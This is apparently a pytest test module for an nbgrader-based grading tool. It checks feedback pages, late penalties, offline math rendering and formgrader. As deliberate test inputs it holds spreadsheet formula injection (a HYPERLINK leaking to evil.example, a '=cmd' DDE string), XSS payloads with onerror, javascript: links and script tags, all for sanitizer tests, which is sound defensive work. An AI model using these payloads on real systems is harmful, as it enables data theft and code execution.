"""The students' feedback pages, and what nbgrader's own tools show of the course (issue 32,
items 13 to 15), end to end: the real commands (``release --exchange``, ``autograde``,
``review``, ``feedback --zip --exchange``), nbgrader's own ``db student add`` and ``export``,
its formgrader in a real Jupyter server on loopback, and the pages opened in headless
Chromium with the network off.

One class of lesson 01 is graded once (module fixture), in two batches: hand-ins collected
from the exchange (with nbgrader's timestamps and secrets), then a Gradescope export whose
names the students typed, with one student's regrade failing. Every page is read into memory
when the fixture is done, so a test that changes grades changes no other test's page.
"""

from __future__ import annotations

import csv
import html
import json
import os
import re
import secrets
import subprocess
import sys
import time
import urllib.request
from pathlib import Path

import nbformat
import pytest

from grader.content.lessons import load_lesson
from grader.course import Course
from tests.grading_helpers import formgrader, grader, grader_env, in_process, points, read_notebook

pytestmark = [pytest.mark.slow, pytest.mark.xdist_group("feedback")]

LESSON = load_lesson("01_float_formats")
NOTEBOOK = LESSON.notebook.name
POINTS = points(read_notebook(LESSON.notebook))
FULL = sum(POINTS.values())
COURSE_ID = "counting-the-cost"
# Due 23:59 in Berlin, written with New York's offset: the page shows Berlin's time.
DEADLINES = """\
timezone = "Europe/Berlin"

[policy]
per = "day"
rate = 0.10
cap = 0.50
zero_after_days = 7
grace_minutes = 5

[lessons.01_float_formats]
due = "2025-03-10T17:59:00-05:00"
"""
ON_TIME = "2025-03-10 20:00:00.000000 UTC"  # 21:00 in Berlin
LATE = "2025-03-11 08:30:00.000000 UTC"  # 09:30 in Berlin: 9 h 31 min late, one day
# A name the student typed into Gradescope: a formula, markup, and nbgrader export's separator.
TYPED = '=HYPERLINK("http://evil.example/?leak","<img src=x onerror=alert(1)>"), Ada; Lovelace'
ROSTER_FIRST, ROSTER_LAST = "<img src=x onerror=alert(1)>", "=cmd|' /C calc'!A0"
GRADESCOPE = f"""\
submission_1001:
  :submitters:
  - :name: Rosa Typed-Over
    :sid: rostered
    :email: rostered@example.edu
  :created_at: 2025-03-10 20:00:00.000000000 Z
submission_1002:
  :submitters:
  - :name: '{TYPED}'
    :sid: typed
    :email: typed@example.edu
  :created_at: 2025-03-10 20:00:00.000000000 Z
submission_1003:
  :submitters:
  - :name: Stale Student
    :sid: stale
    :email: stale@example.edu
  :created_at: 2025-03-10 20:00:00.000000000 Z
"""


def command(*args: str | Path) -> subprocess.CompletedProcess[str]:
    """``python -m grader ARGS`` in this process (no new interpreter's imports), its exit
    status checked."""
    return in_process(*args, check=True)


def nbgrader(root: Path, *args: str) -> subprocess.CompletedProcess[str]:
    """One of nbgrader's own commands in the course directory, as an instructor runs it."""
    done = subprocess.run([sys.executable, "-m", "nbgrader", *args], cwd=root,
                          env=grader_env(), capture_output=True, text=True, timeout=300)
    assert done.returncode == 0, done.stdout + done.stderr
    return done


def page_path(root: Path, student: str) -> Path:
    return root / "feedback" / student / LESSON.name / f"{LESSON.notebook_id}.html"


def released_path(exchange: Path, secret: str) -> Path:
    from nbgrader.utils import notebook_hash

    return exchange / COURSE_ID / "feedback" / (
        f"{notebook_hash(secret=secret, notebook_id=LESSON.notebook_id)}.html")


def text_of(page: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", page))


@pytest.fixture(scope="module")
def course(tmp_path_factory) -> dict:
    tmp = tmp_path_factory.mktemp("feedback")
    root, exchange = tmp / "course", tmp / "exchange"
    grader("release", LESSON.name, "--course-dir", root, "--exchange", exchange)
    (root / "deadlines.toml").write_text(DEADLINES)
    instructor = read_notebook(LESSON.notebook)
    keys = {}
    for student, stamp in [("full", ON_TIME), ("reviewed", LATE), ("stale", ON_TIME)]:
        folder = root / "collected" / student / LESSON.name
        folder.mkdir(parents=True)
        nbformat.write(instructor, folder / NOTEBOOK)
        (folder / "timestamp.txt").write_text(stamp)
        keys[student] = secrets.token_hex(16)
        (folder / "submission_secret.txt").write_text(keys[student])
    graded = grader("autograde", LESSON.name, "--collected", "--course-dir", root, "--plots")
    assert "3 graded, 0 needs_review, 0 invalid of 3" in graded.stdout, graded.stdout
    command("review", LESSON.name, "reviewed", "--accept", "--note", "fine <b>as it is</b>",
            "--by", "prof_x", "--course-dir", root)
    command("review", LESSON.name, "reviewed", "--note", "see me in office hours", "--by",
            "prof_x", "--course-dir", root)
    first = grader("feedback", LESSON.name, "--exchange", "--course-dir", root)
    stale_before = page_path(root, "stale").read_text()
    released_before = released_path(exchange, keys["stale"]).read_text()

    # The roster, as nbgrader's own command keeps it; then a Gradescope export in which two
    # students typed their names, and the stale student's regrade fails (no notebook).
    nbgrader(root, "db", "student", "add", "rostered", f"--first-name={ROSTER_FIRST}",
             f"--last-name={ROSTER_LAST}")
    export = tmp / "assignment_77_export"
    (export / "submission_1001").mkdir(parents=True)
    nbformat.write(read_notebook(root / "release" / LESSON.name / NOTEBOOK),
                   export / "submission_1001" / NOTEBOOK)
    for empty in ("submission_1002", "submission_1003"):
        (export / empty).mkdir()
        (export / empty / "README.md").write_text("no notebook")
    (export / "submission_metadata.yml").write_text(GRADESCOPE)
    again = grader("autograde", LESSON.name, export, "--course-dir", root)
    assert "1 graded, 0 needs_review, 2 invalid of 3" in again.stdout, again.stdout
    # A graded notebook nbgrader cannot read: its page cannot be made, and the grader says why.
    (root / "autograded" / "ghost" / LESSON.name).mkdir(parents=True)
    (root / "autograded" / "ghost" / LESSON.name / NOTEBOOK).write_text("not a notebook")
    final = grader("feedback", LESSON.name, "--zip", "--exchange", "--course-dir", root)
    pages = {s: page_path(root, s).read_text() for s in ("full", "reviewed", "rostered")
             if page_path(root, s).exists()}
    return {"root": root, "exchange": exchange, "keys": keys, "first": first, "final": final,
            "pages": pages, "stale_before": stale_before, "released_before": released_before}


# ------------------------------------------------------------------ item 13: the page

def test_a_note_alone_or_an_accept_with_a_note_shows_on_the_students_page(course) -> None:
    assert "no feedback page" not in course["first"].stdout
    assert "reviewed" in course["pages"], course["final"].stdout
    text = text_of(course["pages"]["reviewed"])
    assert "Your instructor reviewed this grade." in text
    assert re.search(r"the computed score stands, by prof_x on \S+Z: fine <b>as it is</b>", text)
    assert re.search(r"note, by prof_x on \S+Z: see me in office hours", text)
    assert "<b>as it is" not in course["pages"]["reviewed"]  # the note is text, not markup
    assert f"(Score: {round(FULL * 0.9, 2)} / {FULL:.1f})" in course["pages"]["reviewed"]


def test_plots_are_drawn_on_the_page_only_when_graded_with_plots(course) -> None:
    """The collected batch was graded with --plots, the Gradescope one (rostered) without."""
    from grader.outputs.preprocessors import UNDRAWN

    drawn, undrawn = course["pages"]["full"], course["pages"]["rostered"]
    assert drawn.count("data:image/png;base64,") >= 2 and UNDRAWN not in drawn
    assert drawn.count("<img ") == drawn.count('<img alt="No description has been provided')
    assert "data:image/png;base64," not in undrawn
    assert undrawn.count(html.escape(UNDRAWN)) >= 2 and "&lt;Figure size" not in undrawn


def test_a_page_that_cannot_be_made_is_named_with_its_real_cause(course) -> None:
    from grader.outputs.feedback import cause

    out = course["final"].stdout
    line = next(x for x in out.splitlines() if x.startswith("no feedback page for ghost"))
    assert "nbgrader could not render" not in line
    assert re.search(r"ghost: \S*(Error|Exception)\b", line), line
    assert cause("[GenerateFeedback | ERROR] Traceback (most recent call last):\n  File x\n"
                 "TypeError: unsupported format string passed to NoneType.__format__\n"
                 "[GenerateFeedback | ERROR] There was an error processing assignment") == \
        "TypeError: unsupported format string passed to NoneType.__format__"


def test_no_page_outlives_the_grades_it_shows(course, monkeypatch) -> None:
    root = course["root"]
    assert f"(Score: {FULL:.1f} / {FULL:.1f})" in course["stale_before"]
    assert f"(Score: {FULL:.1f} / {FULL:.1f})" in course["released_before"]
    # The regrade failed (no notebook): no page shows the old 15/15, here, in the LMS zip or
    # in the exchange, and the instructor is told why.
    assert not page_path(root, "stale").exists()
    zips = root / "feedback-zips" / LESSON.name
    assert (zips / "full.zip").is_file() and not (zips / "stale.zip").exists()
    assert not released_path(course["exchange"], course["keys"]["stale"]).exists()
    assert released_path(course["exchange"], course["keys"]["full"]).is_file()
    out = course["final"].stdout  # the regrade itself withdrew the page, before feedback ran
    assert "withdrew from the exchange the feedback released earlier to 1 student(s)" in out
    # Grades that change after a page was made (a review decision) make it stale: it is
    # withdrawn, never handed out.
    made = Course(root, log=lambda _: None)
    assert page_path(root, "reviewed") in made.current_feedback(LESSON)
    time.sleep(0.05)
    command("review", LESSON.name, "reviewed", "--note", "a word after the page",
            "--course-dir", root)
    assert not page_path(root, "reviewed").exists()  # withdrawn with the decision
    pages = Course(root, log=lambda _: None).current_feedback(LESSON)
    assert page_path(root, "reviewed") not in pages and page_path(root, "full") in pages
    # The next feedback makes only the pages of grades that changed (a class of thousands is
    # not made again for one review); the others are kept as they are, and --all makes all.
    kept = {s: page_path(root, s).stat().st_mtime_ns for s in ("full", "rostered")}
    done = grader("feedback", LESSON.name, "--course-dir", root)
    assert "1 made, 2 kept" in done.stdout, done.stdout
    assert "see me in office hours" in page_path(root, "reviewed").read_text()
    assert {s: page_path(root, s).stat().st_mtime_ns for s in kept} == kept
    # --all, the pages made by two nbgrader processes at once (as for a class of hundreds on
    # two cores): each student's page by one of them, the same page as one process made.
    from grader.outputs import feedback

    before = {s: page_path(root, s).read_text() for s in ("full", "reviewed", "rostered")}
    logs: list[str] = []
    generate = feedback.generate
    monkeypatch.setattr(feedback, "generate", lambda *a: logs.append(generate(*a)) or logs[0])
    monkeypatch.setattr(feedback, "usable_cores", lambda: 2)
    monkeypatch.setattr(feedback, "PAGES_A_PROCESS", 1)
    logged: list[str] = []
    feedback.write_pages(Course(root, log=logged.append), LESSON, remake=True)
    assert any(line.startswith("making 4 feedback pages in 2 processes at once")
               for line in logged), logged
    assert any("3 made" in line and "kept" not in line for line in logged), logged
    converted = re.findall(r"Converting notebook \S*/autograded/([^/\s]+)/", logs[0])
    assert sorted(converted) == ["full", "ghost", "reviewed", "rostered"], logs[0]
    assert {s: page_path(root, s).read_text() for s in before} == before
    assert page_path(root, "full").stat().st_mtime_ns != kept["full"]
    # A file time an hour back (a clock that stepped back) withdraws nothing; a page put back
    # from a backup, with what it was made from (other grades), is withdrawn when the pages
    # are handed out, and said.
    old = page_path(root, "full").stat().st_mtime - 3600
    os.utime(page_path(root, "full"), (old, old))
    assert page_path(root, "full") in Course(root, log=lambda _: None).current_feedback(LESSON)
    page_path(root, "full").with_name("made-from.json").write_text('{"grades": "0"}')
    logged: list[str] = []
    pages = Course(root, log=logged.append).current_feedback(LESSON)
    assert page_path(root, "full") not in pages
    assert any("whose grades changed" in line and "full" in line for line in logged)


def test_the_score_list_names_each_exercise_as_the_lesson_does(course) -> None:
    page = course["pages"]["full"]
    toc = page[page.index('<div id="toc">'):page.index("</ol>", page.index('<div id="toc">'))]
    items = [text_of(item).split(" (Score")[0].strip()
             for item in re.findall(r"<li>(.*?)</li>", toc, re.S)]
    exercises = [name for name in POINTS if not name.startswith("predicted_")]
    assert items[:len(exercises)] == [f"Exercise: {name}" for name in exercises]
    assert items[-1] == "Adding a small number ten thousand times: predicted_bf16_stall"
    assert "Test cell" not in page and "Grade cell" not in page
    assert "Checks of Exercise: <code>decode</code>" in page


def test_the_late_line_gives_every_time_in_the_deadline_files_zone_and_the_policy(
        course) -> None:
    on_time = " ".join(text_of(course["pages"]["full"]).split())
    assert re.search(r"Due 2025-03-10 23:59 CET; handed in 2025-03-10 21:00 CET \(.*?\): "
                     r"on time\.", on_time)
    text = " ".join(text_of(course["pages"]["reviewed"]).split())
    assert "Due 2025-03-10 23:59 CET; handed in 2025-03-11 09:30 CET (timestamp.txt" in text
    assert (f"Score {FULL:g}, late penalty {FULL * 0.1:g}, final {FULL * 0.9:g}.") in text
    assert ("Late policy: 10% of the score is taken off for each day late or part of one, at "
            "most 50%; handed in more than 7 days late, it scores 0; up to 5 minutes late "
            "counts as on time. Times are in Europe/Berlin.") in text
    line = text[text.index("Due 2025"):text.index("Times are in")]
    assert "-05:00" not in line and "+00:00" not in line and "UTC" not in line


def test_the_late_policy_reads_as_words_whatever_its_fields() -> None:
    from datetime import timedelta

    from grader.gradebook.deadlines import Policy
    from grader.outputs.preprocessors import policy_in_words

    assert policy_in_words(Policy()) == "no penalty for a late hand-in"
    assert policy_in_words(Policy(per="hour", rate=0.025)) == \
        "2.5% of the score is taken off for each hour late or part of one"
    assert policy_in_words(Policy(zero_after=timedelta(hours=36),
                                  grace=timedelta(minutes=1))) == \
        "handed in more than 36 hours late, it scores 0; up to 1 minute late counts as on time"


def test_math_is_drawn_offline_with_nothing_fetched(course, browser, tmp_path) -> None:
    """And every text output, a verdict of 600 characters among them, wraps inside its box in
    a 1280x720 window."""
    path = tmp_path / "page.html"
    long_verdict = "[grader] decode: 0 of 2 points; " + "a failed check said why, " * 23
    page_text = course["pages"]["full"]
    first = page_text.index("output_stdout output_text")
    at = page_text.index("<pre>", first) + len("<pre>")
    path.write_text(page_text[:at] + long_verdict + "\n" + page_text[at:])
    context = browser.new_context(offline=True, viewport={"width": 1280, "height": 720})
    fetched: list[str] = []

    def network(route) -> None:  # the page itself (file:) and what it embeds (data:) only
        if route.request.url.startswith(("file:", "data:")):
            route.continue_()
        else:
            fetched.append(route.request.url)
            route.abort()

    context.route("**/*", network)
    try:
        page = context.new_page()
        page.goto(path.as_uri(), wait_until="load")
        assert fetched == []  # no MathJax, font or script from a CDN
        prose = page.evaluate("[...document.querySelectorAll('.text_cell_render')]"
                              ".map(e => e.innerText).join('\\n')")
        assert "$" not in prose and "\\times" not in prose and "^{" not in prose
        drawn = page.evaluate("""[...document.querySelectorAll('math')].map(m => [
            getComputedStyle(m).display, m.getBoundingClientRect().height])""")
        assert len(drawn) > 50
        assert all(display in ("math", "inline math", "block math") and height > 0
                   for display, height in drawn), drawn[:5]
        fraction = page.evaluate("document.querySelector('math mfrac')"
                                 ".getBoundingClientRect().height")
        line = page.evaluate("parseFloat(getComputedStyle(document.body).lineHeight)")
        assert fraction > line * 0.9  # a fraction, stacked, not a line of TeX
        assert long_verdict[:40] in page.inner_text("body")
        overflowing = page.evaluate("""[...document.querySelectorAll('.output_text pre')]
            .filter(p => p.scrollWidth > p.clientWidth + 1).map(p => p.innerText.slice(0, 80))""")
        assert overflowing == []
        assert page.evaluate("document.scrollingElement.scrollWidth") <= 1280
    finally:
        context.close()


def test_a_students_math_is_drawn_and_cleaned() -> None:
    from nbformat.v4 import new_markdown_cell, new_output

    from grader.outputs.preprocessors import SanitizeUntrusted

    cell = new_markdown_cell(r"$\href{javascript:alert(1)}{x} + \text{<script>y</script>}$ "
                             r"and $\frac{1}{\undefinedcommand$")
    cleaned, _ = SanitizeUntrusted().preprocess_cell(cell, {}, 0)
    assert "<math" in cleaned.source and "<mfrac" not in cleaned.source.split("and")[0]
    assert "javascript" not in cleaned.source and "<script" not in cleaned.source
    code = nbformat.v4.new_code_cell(outputs=[new_output(
        "display_data", data={"text/latex": r"$\displaystyle \frac{a}{b}$",
                              "text/plain": "a/b"})])
    shown, _ = SanitizeUntrusted().preprocess_cell(code, {}, 0)
    assert "<mfrac>" in shown.outputs[0].data["text/html"]
    assert "text/latex" not in shown.outputs[0].data


@pytest.mark.parametrize("depth", [0, 1, 2, 3])
def test_no_link_the_cleaner_keeps_turns_live_once_a_template_strips_files(depth) -> None:
    """formgrader's template strips one ``files/`` prefix from each link after the cell was
    cleaned; whatever the depth of prefixes, no javascript: link may come out of it."""
    from nbconvert.filters.strings import strip_files_prefix
    from nbformat.v4 import new_markdown_cell

    from grader.outputs.preprocessors import SanitizeUntrusted

    prefix = "files/" * depth
    cell = new_markdown_cell(f"[a]({prefix}javascript:alert(1)) "
                             f'<a href="/{prefix}javascript:alert(2)">b</a> '
                             f"<img src='{prefix}javascript:alert(3)'> [c]({prefix}notes.txt)")
    cleaned, _ = SanitizeUntrusted().preprocess_cell(cell, {}, 0)
    shown = strip_files_prefix(strip_files_prefix(cleaned.source))
    assert re.findall(r"(?:href|src)=[\"']?\s*javascript:", shown, re.I) == [], shown
    assert 'href="notes.txt"' in shown  # an ordinary link kept


def test_a_cells_nbgrader_metadata_is_shown_only_in_the_lessons_shape() -> None:
    """nbgrader's templates print a grade_id unescaped into ids and text."""
    from grader.common.text import trusted_nbgrader_metadata
    from grader.outputs.preprocessors import SanitizeUntrusted

    kept = {"grade": True, "grade_id": "test-decode_2", "points": 2.5}
    assert trusted_nbgrader_metadata(kept) and trusted_nbgrader_metadata({"grade_id": ""})
    for forged in ({"grade_id": '"><script>x()</script>'}, {"grade_id": "a b"},
                   {"grade_id": 7}, {"grade_id": "x", "points": "1"}, {"grade_id": "é"},
                   {"grade_id": "x" * 201}, ["grade_id"]):
        assert not trusted_nbgrader_metadata(forged), forged
        cell = nbformat.v4.new_code_cell("x = 1", metadata={"nbgrader": forged, "tags": ["t"]})
        cleaned, _ = SanitizeUntrusted().preprocess_cell(cell, {}, 0)
        assert dict(cleaned.metadata) == {"tags": ["t"]}
    cell = nbformat.v4.new_code_cell("x = 1", metadata={"nbgrader": kept})
    assert SanitizeUntrusted().preprocess_cell(cell, {}, 0)[0].metadata.nbgrader == kept


# ------------------------------------------------------------------ item 14: names

def test_the_rosters_name_wins_and_every_stored_name_is_neutral(course) -> None:
    from nbgrader.api import Gradebook

    # nbgrader's own export, read as a spreadsheet reads it.
    out = course["root"] / "nbgrader-export.csv"
    nbgrader(course["root"], "export", f"--to={out}")
    with out.open(newline="") as handle:
        table = list(csv.reader(handle))
    for row in table:
        for field in row:
            assert not field.startswith(("=", "+", "-", "@")), field
            assert "<" not in field and ">" not in field
    assert {len(row) for row in table} == {11}  # no name moved a column
    typed = ("'=HYPERLINK(\uff02http://evil.example/?leak\uff02\uff0c\uff02\uff1cimg src=x "
             "onerror=alert(1)\uff1e\uff02)\uff0c Ada\uff1b Lovelace")
    names = {row[3]: tuple(row[4:7]) for row in table[1:]}
    assert names["typed"] == (typed, "", "typed@example.edu")
    # The roster's name, neutral, not the one typed into Gradescope ("Rosa Typed-Over").
    assert names["rostered"] == ("'=cmd|' /C calc'!A0", "\uff1cimg src=x onerror=alert(1)\uff1e",
                                 "rostered@example.edu")
    with Gradebook(f"sqlite:///{course['root'] / 'gradebook.db'}") as gb:
        student = gb.find_student("typed")
        assert (student.first_name, student.last_name, student.lms_user_id) == \
            (None, typed, "typed")


def test_a_gradebook_name_is_neutral_and_a_plain_name_unchanged() -> None:
    from grader.common.text import gradebook_text

    assert gradebook_text("Adélaïde O'Brien-Lovelace") == "Adélaïde O'Brien-Lovelace"
    assert gradebook_text("@SUM(1+1)*cmd|' /C calc'!A0") == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert gradebook_text("-2+3") == "'-2+3"
    assert gradebook_text("a\x1b[31m,b;\"c\"\n<d>&") == \
        "a\\x1b[31m\uff0cb\uff1b\uff02c\uff02 \uff1cd\uff1e\uff06"
    assert gradebook_text(gradebook_text("=x")) == "'=x"


# ------------------------------------------------------------------ item 15: formgrader

def fetch(url: str) -> tuple[int, str]:
    try:
        with urllib.request.urlopen(url, timeout=60) as answer:
            return answer.status, answer.read().decode()
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode(errors="replace")


def test_formgrader_grades_a_submission_on_its_own_page_with_names_as_text(
        course, tmp_path) -> None:
    from nbgrader.api import Gradebook

    root = course["root"]
    with Gradebook(f"sqlite:///{root / 'gradebook.db'}") as gb:
        ids = {s: gb.find_submission_notebook(LESSON.notebook_id, LESSON.name, s).id
               for s in ("full", "rostered")}
    with formgrader(root, tmp_path / "home") as (url, token):
        for student, submission in ids.items():
            status, page = fetch(f"{url}/formgrader/submissions/{submission}/?token={token}")
            assert status == 200, (student, page[-2000:])
            assert 'class="name-shown"' in page  # formgrader's own template
            assert 'id="toc"' not in page  # not the students' feedback template
        shown = re.search(r'class="name-shown"[^>]*>(.*?)</a>', page, re.S)[1].strip()
        assert shown == "'=cmd|' /C calc'!A0, \uff1cimg src=x onerror=alert(1)\uff1e"
        assert "<img src=x" not in page
        status, students = fetch(f"{url}/formgrader/api/students?token={token}")
        listed = {row["id"]: row for row in json.loads(students)}
        assert status == 200 and listed["rostered"]["last_name"] == "'=cmd|' /C calc'!A0"
